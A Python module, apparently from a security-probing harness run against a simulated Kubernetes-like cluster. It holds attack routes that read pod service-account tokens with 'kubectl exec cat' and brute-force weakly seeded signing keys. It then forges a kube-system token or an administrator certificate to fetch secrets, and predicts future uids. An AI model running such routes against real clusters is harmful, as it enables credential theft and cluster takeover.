"""Ways to keys, and to what comes next: by trying all small seeds on everything that can be read."""

from __future__ import annotations

import base64
import hmac
import json
import re
import socket
import ssl
import tempfile
from hashlib import blake2b, shake_256
from typing import TYPE_CHECKING, ClassVar

from . import certificates, p256
from .ports import listening
from .route import Known, ProbeResult, Route

if TYPE_CHECKING:
    from collections.abc import Iterator

    from .place import Place

SEEDS = 256
# A world draws its first keys and uids this early; later ones are among so many.
EARLY, LATER = 40, 60_000
MOUNTED = "/var/run/secrets/kubernetes.io/serviceaccount"
TARGET = "generic-garbage-collector"
ADMINISTRATOR = ("kubernetes", "kubernetes-admin", "system:masters")
_TOKEN = re.compile(r"eyJ[\w-]+\.[\w-]+\.[\w-]+")
_UID = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}")
_WORD = re.compile(r"[\w.:/+=-]{1,80}")
_WORDS = 4000
_SIGNATURE_BYTES = 256


def drawn(seed: int, number: int, size: int) -> bytes:
    """What a world of a seed draws as its n-th value."""
    key = seed.to_bytes(16, "big", signed=True)
    return blake2b(f"draw {number}".encode(), key=key, digest_size=size).digest()


def uid(seed: int, number: int) -> str:
    """The n-th value that is drawn, as a uid."""
    value = drawn(seed, number, 16)
    digits, variant = value.hex(), "89ab"[value[8] >> 4 & 3]
    return f"{digits[:8]}-{digits[8:12]}-4{digits[13:16]}-{variant}{digits[17:20]}-{digits[20:]}"


def secrets(purpose: str, texts: list[str]) -> Iterator[bytes]:
    """Keys that would follow from a seed alone, or from a salt that can be read somewhere."""
    for seed in range(SEEDS):
        for number in range(1, EARLY):
            yield drawn(seed, number, 32)
    words = {word: None for text in texts for word in _WORD.findall(text)}
    for salt in ("", *map(str, range(SEEDS)), *list(words)[:_WORDS]):
        yield hmac.digest(salt.encode(), purpose.encode(), "sha256")


def signature(key: bytes, text: str) -> str:
    """The signature of a token's head and claims."""
    return _encoded(shake_256(key + text.encode()).digest(_SIGNATURE_BYTES))


class ForgedToken(Route):
    """A token of a ServiceAccount of the control plane, signed with a key that was worked out."""

    name: ClassVar[str] = "forged-token"

    def attempt(self, place: Place, result: ProbeResult) -> None:
        """Read the token of a pod, find its key, sign another one, and use that."""
        accounts = result.take(place.api("/api/v1/namespaces/kube-system/serviceaccounts")[1])
        texts = [accounts, result.take(place.api("/api/v1/nodes")[1])]
        token = _token_of_a_pod(place, result)
        key = recomputed(token, texts)
        if key is None:
            return
        forged = _forged(token, key, accounts)
        result.facts.update(key=key.hex(), token=token, forged=forged)
        result.take(place.tool("kubectl", command=f"get secrets -n kube-system --token={forged}"))

    def leaked(self, result: ProbeResult, known: Known) -> str:
        """The key that is claimed must have signed the token that was read."""
        signed, _, signed_with = str(result.facts.get("token", "")).rpartition(".")
        key = bytes.fromhex(str(result.facts.get("key", "")))
        if key and signature(key, signed) == signed_with:
            return "the key of the tokens was worked out: any ServiceAccount can be forged"
        return known.found(result.texts)


class ForgedCertificate(Route):
    """A client certificate of an administrator, signed with the authority's key that was worked out."""

    name: ClassVar[str] = "forged-certificate"

    def attempt(self, place: Place, result: ProbeResult) -> None:
        """Collect certificates, find the key of one, sign a certificate with it, and use that."""
        texts = [result.take(place.kubeconfig.read_text())]
        for path in (
            "/api/v1/namespaces/kube-system/configmaps",
            f"/api/v1/namespaces/{place.namespace}/configmaps",
            f"/api/v1/namespaces/{place.namespace}/serviceaccounts",
            "/api/v1/nodes",
            "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations",
        ):
            found = result.take(place.api(path)[1])
            texts += [found, *_decoded(found)]
        texts.append(_read_in_a_pod(place, result, "ca.crt"))
        curve = p256.Curve.prepared()
        for public, authority in certificates.authorities(texts).items():
            candidates = map(p256.private_key, secrets("certificate authority", texts))
            key = curve.key_of(public, candidates)
            if key is None:
                continue
            certificate, own = certificates.client(curve, key, *ADMINISTRATOR)
            result.facts.update(key=f"{key:x}", authority=authority, certificate=certificate)
            for port in listening():
                result.take(with_certificate(port, certificate + own, "/api/v1/secrets"))

    def leaked(self, result: ProbeResult, known: Known) -> str:
        """The key that is claimed must be that of the authority whose certificate was read."""
        claimed = int(str(result.facts.get("key", "0")), 16)
        if claimed:
            public = p256.Curve.prepared().public(claimed)
            if public in certificates.authorities([str(result.facts.get("authority", ""))]):
                return "the key of the certificate authority was worked out: anybody can be forged"
        return known.found(result.texts)


class Prediction(Route):
    """The uid of what is not there yet, worked out from the seed of the world."""

    name: ClassVar[str] = "predicted-uid"

    def attempt(self, place: Place, result: ProbeResult) -> None:
        """Find the seed by uids that are there; see what the next token's id is."""
        texts = [
            result.take(place.api(f"/api/v1/{what}")[1])
            for what in ("namespaces", "nodes", "serviceaccounts", "pods")
        ]
        result.facts["seeds"] = seeds_in(texts)
        path = f"/api/v1/namespaces/{place.namespace}/serviceaccounts/default/token"
        asked = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}}
        token = _TOKEN.search(result.take(place.api(path, "POST", asked)[1]))
        later = "" if token is None else str(_claims(token[0]).get("jti", ""))
        result.facts["later"] = later or _later_uid(place, result)

    def leaked(self, result: ProbeResult, known: Known) -> str:
        """The id that came later must not be among those that a seed gives."""
        later = result.facts.get("later", "")
        for seed in result.facts.get("seeds", ()):
            if later and any(uid(seed, number) == later for number in range(1, LATER)):
                return f"the uid of what came later follows from seed {seed}"
        return known.found(result.texts)


def recomputed(token: str, texts: list[str]) -> bytes | None:
    """The key with which a token was signed; None when it is none of those that can be thought of."""
    signed, _, signed_with = token.rpartition(".")
    for key in secrets("tokens of service accounts", texts):
        if signature(key, signed) == signed_with:
            return key
    return None


def seeds_in(texts: list[str]) -> list[int]:
    """Seeds whose first uids stand in some texts about a world."""
    uids = {found for text in texts for found in _UID.findall(text)}
    return [seed for seed in range(SEEDS) if any(uid(seed, n) in uids for n in range(1, EARLY))]


def with_certificate(port: int, pem: str, path: str) -> bytes:
    """What the server at a port of this machine answers to a client with a certificate and its key."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    got = b""
    with tempfile.NamedTemporaryFile("w", suffix=".pem") as file:
        file.write(pem)
        file.flush()
        context.load_cert_chain(file.name)
        try:
            with (
                socket.create_connection(("127.0.0.1", port), 2) as line,
                context.wrap_socket(line, server_hostname="kubernetes") as secure,
            ):
                secure.sendall(f"GET {path} HTTP/1.0\r\nHost: kubernetes\r\n\r\n".encode())
                while piece := secure.recv(65_536):
                    got += piece
        except OSError:
            pass
    return got


def _token_of_a_pod(place: Place, result: ProbeResult) -> str:
    found = _TOKEN.search(_read_in_a_pod(place, result, "token"))
    return "" if found is None else found[0]


def _read_in_a_pod(place: Place, result: ProbeResult, name: str) -> str:
    """A file that a ServiceAccount brings into a pod, from the first pod that shows it."""
    listed = json.loads(
        place.api(f"/api/v1/namespaces/{place.namespace}/pods?limit=20")[1].partition("\n\n")[2]
        or "{}"
    )
    for item in listed.get("items", ())[:8]:
        path = f"{MOUNTED}/{name}"
        command = f"exec {item['metadata']['name']} -n {place.namespace} -- cat {path}"
        found = result.take(place.tool("kubectl", command=command))
        if "eyJ" in found or "BEGIN" in found:
            return found
    return ""


def _decoded(text: str) -> Iterator[str]:
    """What stands in base64 in a text: bundles of certificates."""
    for found in re.findall(r"LS0tLS1CRUdJTi[\w+/=]+", text):
        yield base64.b64decode(found + "=" * (-len(found) % 4)).decode("utf-8", "replace")


def _later_uid(place: Place, result: ProbeResult) -> str:
    made = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "notes-of-today"}}
    base = f"/api/v1/namespaces/{place.namespace}/configmaps"
    found = _UID.search(result.take(place.api(base, "POST", made)[1]))
    place.api(f"{base}/notes-of-today", "DELETE")
    return "" if found is None else found[0]


def _forged(token: str, key: bytes, accounts: str) -> str:
    head, claims = token.split(".")[0], _claims(token)
    own = re.search(rf'"name":\s*"{TARGET}".*?"uid":\s*"({_UID.pattern})"', accounts, re.S)
    account = {"name": TARGET, "uid": "" if own is None else own[1]}
    claims["kubernetes.io"] = {"namespace": "kube-system", "serviceaccount": account}
    claims["sub"] = f"system:serviceaccount:kube-system:{TARGET}"
    text = f"{head}.{_encoded(json.dumps(claims).encode())}"
    return f"{text}.{signature(key, text)}"


def _claims(token: str) -> dict[str, object]:
    text = token.split(".")[1]
    try:
        claims = json.loads(base64.urlsafe_b64decode(text + "=" * (-len(text) % 4)))
    except ValueError:
        return {}
    return claims if isinstance(claims, dict) else {}


def _encoded(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")
